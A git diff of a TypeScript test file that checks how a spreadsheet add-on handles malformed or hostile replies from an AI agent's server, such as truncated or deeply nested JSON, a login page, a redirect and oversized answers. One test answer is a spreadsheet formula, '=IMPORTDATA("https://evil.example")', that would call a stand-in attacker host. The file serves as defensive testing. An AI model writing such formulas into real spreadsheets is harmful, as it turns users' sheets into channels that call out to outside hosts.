@@ -1,16 +1,74 @@
-/** Whatever the agent's server sends back: the row is answered or says why not, and so is the row next to it. */
-import type { WireRequest } from '../../local/runtime';
+/** Replies of the agent's server, or of anything in front of it: the row is answered or says why not, and so is the row next to it. */
+import type { WireRequest, WireResult } from '../../local/runtime';
 import { live } from '../e2e/agent/live-support';
+import { said } from '../e2e/transport';
 import { fakeAgent } from '../support/agent-server/fake-fetch';
-import { AGENT_REPLIES, ODD_QUERY, PAGE } from './agent-replies';
-import type { Sent } from './judge-replies';
+import { answered } from '../support/agent-server/states';
+
+const ODD_QUERY = 'Where is it odd?';
+/** A login page, possibly a proxy's. */
+const PAGE = said(200, '<!DOCTYPE html><html><body>Log in</body></html>');
+const stateReply = (state: string | object): WireResult =>
+  said(200, JSON.stringify({ state: typeof state === 'string' ? state : JSON.stringify(state) }));
+const STATE = answered(ODD_QUERY, 'The answer is 9,587.2 hectares.');
+
+/**
+ * What comes in place of the chat's stream or of the thread's state, and the row's error; none if it is answered nevertheless. One of each
+ * kind: test/agent/live has the details.
+ */
+const REPLIES: readonly (readonly [
+  inPlaceOf: 'chat' | 'state',
+  what: string,
+  sent: WireResult,
+  error?: RegExp,
+])[] = [
+  [
+    'state',
+    'a state that is cut off',
+    stateReply(JSON.stringify(STATE).slice(0, 200)),
+    /^the agent’s state is not JSON; it begins with “/,
+  ],
+  [
+    'state',
+    'a state of 20,000 levels',
+    stateReply(`${'{"messages":'.repeat(20_000)}1${'}'.repeat(20_000)}`),
+    /nested more than 500 levels deep$/,
+  ],
+  [
+    'state',
+    'a state whose messages are numbers',
+    stateReply({ ...STATE, messages: [1, 2] }),
+    /^the agent was interrupted each time it was asked$/,
+  ],
+  [
+    'state',
+    'a page for a state',
+    PAGE,
+    /not the agent answers at this address but a page \(a proxy or a login\?\)/,
+  ],
+  [
+    'state',
+    'a formula for an answer',
+    stateReply(answered(ODD_QUERY, '=IMPORTDATA("https://evil.example")')),
+  ],
+  ['state', 'an answer of 200,000 characters', stateReply(answered(ODD_QUERY, 'a '.repeat(100_000)))],
+  ['state', 'an answer that is half a character', stateReply(answered(ODD_QUERY, 'a\ud83d'))],
+  ['chat', 'nothing for the chat', said(200, '')],
+  ['chat', 'a line of 1 MB', said(200, `{"node":"x","update":"${'a'.repeat(1_000_000)}"}\n`)],
+  [
+    'chat',
+    'HTTP 422 for the chat',
+    said(422, '{"detail":[{"msg":"bad query"}]}'),
+    /^the agent refuses the question \(HTTP 422\): “bad query”$/,
+  ],
+];
 
 /** Asks both questions of an agent that behaves oddly for the first one. */
-function askedWith(inPlaceOf: 'chat' | 'state', sent: Sent) {
+function askedWith(inPlaceOf: 'chat' | 'state', sent: WireResult) {
   const [chat, state] = inPlaceOf === 'chat' ? [sent, undefined] : [undefined, sent];
   const server = fakeAgent();
   const odd = new Set<string>();
-  const replyTo = ({ url, body }: WireRequest): Sent | undefined => {
+  const replyTo = ({ url, body }: WireRequest): WireResult | undefined => {
     const text = Buffer.from(body ?? []).toString('utf8');
     const thread = /"thread_id":"([^"]+)"/.exec(text)?.[1];
     if (url.endsWith('/chat') && text.includes(ODD_QUERY)) {
@@ -32,11 +90,8 @@ function askedWith(inPlaceOf: 'chat' | 'state', sent: Sent) {
       transport: (requests, most) => {
         const replies = server.transport(requests, most);
         return requests.map((request, index) => {
-          const sent = replyTo(request);
-          if (!sent) return replies[index] ?? { failure: 'nothing' };
-          if ('failure' in sent) return { ...sent, latencyMs: 50 };
-          const { status, headers = {}, body } = sent;
-          return { status, headers: Object.entries(headers), body: Buffer.from(body), latencyMs: 50 };
+          const sent = replyTo(request) ?? replies[index] ?? { failure: 'nothing' };
+          return { latencyMs: 50, ...sent };
         });
       },
     },
@@ -46,28 +101,27 @@ function askedWith(inPlaceOf: 'chat' | 'state', sent: Sent) {
   return { addOn, answer };
 }
 
-describe('An agent whose server sends back', () => {
-  for (const [inPlaceOf, what, sent, error] of AGENT_REPLIES)
-    it(`for the ${inPlaceOf}: ${what}`, () => {
-      const { addOn, answer } = askedWith(inPlaceOf, sent);
-      expect(answer.ok).toBe(true);
-      const rows = [2, 3].map((row) => addOn.row('GOLD results', row + 2));
-      const [odd, good] = rows;
-      if (error) expect([odd?.['verdict'], odd?.['error']]).toEqual(['error', expect.stringMatching(error)]);
-      else expect(odd?.['error']).toBe(null);
-      expect([good?.['verdict'], good?.['error']]).toEqual(['pass', null]);
-    });
-});
+it.each(REPLIES)(
+  'An agent whose server sends, in place of the %s, %s',
+  (inPlaceOf, _what, sent, error: RegExp | null = null) => {
+    const { addOn, answer } = askedWith(inPlaceOf, sent);
+    expect(answer.ok).toBe(true);
+    const [odd, good] = [4, 5].map((row) => addOn.row('GOLD results', row));
+    if (error) expect([odd?.['verdict'], odd?.['error']]).toEqual(['error', expect.stringMatching(error)]);
+    else expect(odd?.['error']).toBe(null);
+    expect([good?.['verdict'], good?.['error']]).toEqual(['pass', null]);
+  },
+);
 
-it.each<readonly [string, Sent, string]>([
+it.each<readonly [string, WireResult, string]>([
   ['a page', PAGE, 'not the agent answers at this address but a page (a proxy or a login?)'],
   [
     'a redirect',
-    { status: 307, body: '', headers: { Location: 'https://evil.example/' } },
+    said(307, '', { Location: 'https://evil.example/' }),
     'the address sends us elsewhere (HTTP 307)',
   ],
 ])(
-  'An agent that cannot be asked at all because %s answers is said, and the run rests with what was answered',
+  'A run rests with the answers that it has, and says why, once the agent cannot be asked at all: %s answers',
   (_what, chat, why) => {
     const { addOn, answer } = askedWith('chat', chat);
     expect(answer).toMatchObject({
